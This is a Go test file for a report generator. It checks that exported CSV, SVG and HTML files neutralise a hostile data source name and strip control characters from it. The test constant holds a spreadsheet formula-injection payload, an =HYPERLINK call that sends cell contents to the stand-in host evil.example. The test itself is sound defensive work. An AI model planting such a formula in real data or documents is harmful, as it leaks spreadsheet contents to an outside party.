package report

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"forecast/reports/locale"
	"forecast/sources"
)

// hostile is a pollster's name as it could come from a community file: a
// spreadsheet formula, with control characters that XML cannot hold.
const hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"OW\")\x00\x01\x1b[2J\x7f\u0085\uFFFE"

// hostileReport builds the English report with the first pollster named
// hostile.
func hostileReport(t *testing.T) map[string][]byte {
	t.Helper()
	d := load(t, func(d *sources.Dataset) {
		first := ""
		for i := range d.Figures {
			f := &d.Figures[i]
			if f.Family == sources.Poll && (first == "" || f.Source == first) {
				first = f.Source
				f.SourceName = hostile
			}
		}
	})
	return build(t, d, locale.EN)
}

// TestFormulaInjection checks every CSV of the report: no cell that a
// spreadsheet would run as a formula (OWASP), the name kept as text behind
// a quote, and negative numbers kept as numbers.
func TestFormulaInjection(t *testing.T) {
	files := hostileReport(t)
	withName, negatives := 0, 0
	for name, b := range files {
		if !strings.HasSuffix(name, ".csv") {
			continue
		}
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		found := false
		for _, rec := range recs {
			for _, c := range rec {
				if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					found = found || strings.HasPrefix(c, "'=HYPERLINK(")
					continue
				}
				if _, err := strconv.ParseFloat(c, 64); err != nil {
					t.Errorf("%s: cell %q would be a formula in a spreadsheet", name, c)
				} else if c[0] == '-' {
					negatives++
				}
			}
		}
		if found {
			withName++
		}
	}
	if withName < 7 {
		t.Errorf("the pollster's name is in %d CSV files as text, want at least 7", withName)
	}
	if negatives == 0 {
		t.Error("no negative number left in the CSV files")
	}
}

// TestControlCharacters checks that control characters in the data leave
// every SVG chart well-formed XML and the page and report.md free of them.
func TestControlCharacters(t *testing.T) {
	files := hostileReport(t)
	for name, b := range files {
		switch {
		case strings.HasSuffix(name, ".svg"):
			if err := wellFormed(b); err != nil {
				t.Errorf("%s is not well-formed XML: %v", name, err)
			}
		case strings.HasSuffix(name, ".png"), strings.HasSuffix(name, ".pdf"):
			continue
		}
		if i := bytes.IndexFunc(b, notText); i >= 0 || !utf8.Valid(b) {
			t.Errorf("%s holds a control character or invalid UTF-8 (at byte %d)", name, i)
		}
	}
	if !bytes.Contains(files["index.html"], []byte("=HYPERLINK(")) {
		t.Error("index.html does not show the pollster's name")
	}
}

// notText is a character that XML 1.0 or HTML do not allow in text.
func notText(r rune) bool {
	return r < 0x20 && r != '\t' && r != '\n' && r != '\r' || 0x7F <= r && r <= 0x9F || r == 0xFFFE || r == 0xFFFF
}

// wellFormed reads an XML document to its end.
func wellFormed(b []byte) error {
	dec := xml.NewDecoder(bytes.NewReader(b))
	dec.Strict = true
	for {
		_, err := dec.Token()
		if errors.Is(err, io.EOF) {
			return nil
		}
		if err != nil {
			return err
		}
	}
}
